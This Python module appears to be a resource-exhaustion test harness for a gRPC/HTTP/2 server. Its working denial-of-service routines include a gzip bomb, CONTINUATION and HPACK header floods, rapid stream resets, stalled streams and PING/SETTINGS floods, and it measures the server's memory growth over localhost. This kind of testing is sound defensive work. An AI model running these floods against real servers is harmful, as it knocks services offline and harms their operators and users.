"""What a client without credentials can do to a listener to fill its memory.

Each attack works on one connection until that is cut or it has sent its fill;
`connect` makes a connection. Many may run at once."""

import contextlib
import gzip
import itertools
import os
import socket
import struct
import threading
import time

from raw_http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS,
                       PING, PRIORITY, RST_STREAM, SERVICE, SETTINGS,
                       WINDOW_UPDATE, call_headers, encode, frame,
                       indexed_headers, message)

REFLECTION = ("/grpc.reflection.v1alpha.ServerReflection/"
              "ServerReflectionInfo")
WATCH = "/grpc.health.v1.Health/Watch"
# One attack on one connection lasts so long, if nobody stops it.
SECONDS = 4


def until_cut(connection, pieces, seconds=SECONDS):
    """Sends all that is taken; answers how many bytes that was."""
    sent, end = 0, time.monotonic() + seconds
    for piece in pieces:
        if time.monotonic() > end or not connection.send(piece):
            break
        sent += len(piece)
    return sent


def linger(connection, seconds):
    """Stays, and reads nothing, until the other side has gone."""
    end = time.monotonic() + seconds
    while time.monotonic() < end and connection.send(
            frame(PING, b"x" * 8)):
        time.sleep(0.1)


def block(stream=1, **fields):
    return frame(HEADERS, encode(call_headers(**fields)), 0, stream)


def swelling_messages(connect):
    """64 MB of zeros in 64 kB each."""
    bomb = message(gzip.compress(bytes(64 << 20), 9), 1)
    pieces = [bomb[i:i + 16384] for i in range(0, len(bomb), 16384)]
    with connect() as connection:
        until_cut(connection, (
            part for stream in range(1, 201, 2) for part in [
                frame(HEADERS, encode(call_headers(
                    extra=[("grpc-encoding", "gzip")])), END_HEADERS, stream),
                *(frame(DATA, piece, 0, stream) for piece in pieces),
                frame(DATA, b"", END_STREAM, stream)]))


def long_headers(connect, acknowledge=True):
    """30 MB a call, none larger than its limit in a frame; each call ends."""
    header = b"\x00\x05x-123\x7f\x81\x06" + b"a" * 896
    piece = frame(CONTINUATION, header * 16, 0, 1)
    with connect(acknowledge=acknowledge) as connection:
        for stream in range(1, 101, 2):
            piece = frame(CONTINUATION, header * 16, 0, stream)
            if until_cut(connection, [block(stream), *[piece] * 2000,
                                      frame(CONTINUATION, b"", END_HEADERS,
                                            stream),
                                      frame(DATA, message(b""), END_STREAM,
                                            stream)], 1) == 0:
                break


def headers_without_end(connect):
    """Ordinary ones, of a client that has agreed to no limit."""
    header = b"\x00\x05x-123\x7f\x81\x06" + b"a" * 896
    with connect(acknowledge=False) as connection:
        until_cut(connection, [block()] +
                  [frame(CONTINUATION, header * 16, 0, 1)] * 20000)


def headers_of_one_byte(connect):
    """`age: ` out of the table that both sides know: 70 times as much in
    memory."""
    with connect(acknowledge=False) as connection:
        until_cut(connection, [block()] +
                  [frame(CONTINUATION, b"\x95" * 16384, 0, 1)] * 10000)


def resets(connect):
    """Calls that are begun and reset at once."""
    headers = encode(call_headers())
    with connect() as connection:
        until_cut(connection, (b"".join(
            frame(HEADERS, headers, END_HEADERS, stream) +
            frame(RST_STREAM, struct.pack(">I", 8), 0, stream)
            for stream in range(first, first + 100, 2))
            for first in range(1, 60000, 100)))


def indexed_calls(connect):
    """Calls of 15 bytes each that never bring their message, of a client that
    has agreed to no limit."""
    first, again = indexed_headers(call_headers())
    with connect(acknowledge=False) as connection:
        until_cut(connection, itertools.chain(
            [frame(HEADERS, first, END_HEADERS, 1)],
            (b"".join(frame(HEADERS, again, END_HEADERS, stream)
                      for stream in range(begin, begin + 1000, 2))
             for begin in range(3, 2**31, 1000))))
        linger(connection, SECONDS)


def indexed_resets(connect):
    """The same, each reset at once: 28 bytes a call."""
    first, again = indexed_headers(call_headers())
    with connect(acknowledge=False) as connection:
        until_cut(connection, itertools.chain(
            [frame(HEADERS, first, END_HEADERS, 1)],
            (b"".join(frame(HEADERS, again, END_HEADERS, stream) +
                      frame(RST_STREAM, struct.pack(">I", 8), 0, stream)
                      for stream in range(begin, begin + 1000, 2))
             for begin in range(3, 2**31, 1000))))


def empty_headers(connect):
    """Calls of 9 bytes each, without a single header."""
    with connect(acknowledge=False) as connection:
        until_cut(connection, (
            b"".join(frame(HEADERS, b"", END_HEADERS, stream)
                     for stream in range(begin, begin + 1000, 2))
            for begin in range(1, 2**31, 1000)))
        linger(connection, SECONDS)


def same_frames(one, opening=b""):
    """One frame over and over, behind the opening."""
    def attack(connect):
        with connect(acknowledge=False) as connection:
            connection.send(opening)
            until_cut(connection, itertools.repeat(one * 500))
    return attack


def calls_that_stay(path, body=b""):
    """As many as are taken, that nobody ends."""
    headers = encode(call_headers(path=path))

    def attack(connect):
        with connect() as connection:
            until_cut(connection, (
                frame(HEADERS, headers, END_HEADERS, stream) +
                frame(DATA, message(body), 0, stream)
                for stream in range(1, 2001, 2)))
            linger(connection, SECONDS)
    return attack


def stalled_readers(connect):
    """Ask for long answers and never read one."""
    headers = encode(call_headers(path=REFLECTION))
    # ServerReflectionRequest{file_containing_symbol}
    name = b"revisit.v1.PoseGraphService"
    ask = message(b"\x22" + bytes([len(name)]) + name)
    with connect(settings=struct.pack(">HI", 4, 2**31 - 1)) as connection:
        connection.send(frame(8, struct.pack(">I", 2**31 - 1 - 65535)))
        for stream in range(1, 201, 2):
            connection.send(frame(HEADERS, headers, END_HEADERS, stream))
        until_cut(connection, (
            frame(DATA, ask * 20, 0, stream)
            for _ in range(100) for stream in range(1, 201, 2)))
        linger(connection, SECONDS)


def stalled_uploads(connect):
    """Messages of 4 MB each that are begun and never ended."""
    headers = encode(call_headers(path=f"{SERVICE}/AppendPoses"))
    piece = b"a" * 16000
    with connect() as connection:
        until_cut(connection, (
            frame(HEADERS, headers, END_HEADERS, stream) +
            frame(DATA, message(piece, length=4000000), 0, stream)
            for stream in range(1, 2001, 2)))
        until_cut(connection, (
            frame(DATA, piece, 0, stream)
            for _ in range(200) for stream in range(1, 2001, 2)))
        linger(connection, SECONDS)


def pings_and_settings(connect):
    """Each wants an answer, and nobody reads them."""
    with connect() as connection:
        until_cut(connection, [(
            frame(PING, b"x" * 8) +
            frame(SETTINGS, struct.pack(">HI", 4, 65535))) * 500] * 2000)


ATTACKS = {
    "swelling messages": swelling_messages,
    "long headers": long_headers,
    "headers without end": headers_without_end,
    "headers of one byte": headers_of_one_byte,
    "resets": resets,
    "calls that stay": calls_that_stay(WATCH),
    "reflection streams": calls_that_stay(REFLECTION, b"\x3a\x01*"),
    "stalled readers": stalled_readers,
    "stalled uploads": stalled_uploads,
    "pings and settings": pings_and_settings,
    "indexed calls": indexed_calls,
    "indexed resets": indexed_resets,
    "empty headers": empty_headers,
    "empty continuations": same_frames(
        frame(CONTINUATION, b"", 0, 1), block()),
    "pings": same_frames(frame(PING, b"x" * 8)),
    "settings": same_frames(frame(SETTINGS, struct.pack(">HI", 4, 65535))),
    "settings that change": same_frames(
        frame(SETTINGS, struct.pack(">HI", 4, 65535)) +
        frame(SETTINGS, struct.pack(">HI", 4, 65534))),
    "priorities": same_frames(
        frame(PRIORITY, struct.pack(">IB", 0, 5), 0, 1)),
    "window updates": same_frames(
        frame(WINDOW_UPDATE, struct.pack(">I", 1))),
    "resets of nothing": same_frames(
        frame(RST_STREAM, struct.pack(">I", 8), 0, 1)),
}


def run(attack, connect, connections):
    """The attack on so many connections at a time, each again if it is cut
    early."""
    end = time.monotonic() + SECONDS

    def work():
        while time.monotonic() < end:
            # A connection that is refused is an attack that has failed.
            with contextlib.suppress(OSError, StopIteration):
                attack(connect)
            time.sleep(0.01)

    workers = [threading.Thread(target=work) for _ in range(connections)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()


def resident_bytes(pid):
    try:
        with open(f"/proc/{pid}/statm") as file:
            return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")
    except (OSError, IndexError):
        return 0


class Watcher:
    """How much more memory processes take at most than in the beginning."""

    def __init__(self, *pids):
        self.pids = pids
        self.before = [resident_bytes(pid) for pid in pids]
        self.most = [0] * len(pids)
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch, daemon=True)

    def _watch(self):
        while not self._stop.wait(0.005):
            for i, pid in enumerate(self.pids):
                self.most[i] = max(self.most[i],
                                   resident_bytes(pid) - self.before[i])

    def __enter__(self):
        self._thread.start()
        return self

    def __exit__(self, *_):
        self._stop.set()
        self._thread.join()


@contextlib.contextmanager
def half_open(port, count, opening=b"", source="127.0.0.1"):
    """Connections that say no more than this."""
    with contextlib.ExitStack() as stack:
        opened = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                one = stack.enter_context(socket.create_connection(
                    ("127.0.0.1", port), timeout=5,
                    source_address=(source, 0)))
                one.sendall(opening)
                opened.append(one)
        yield opened
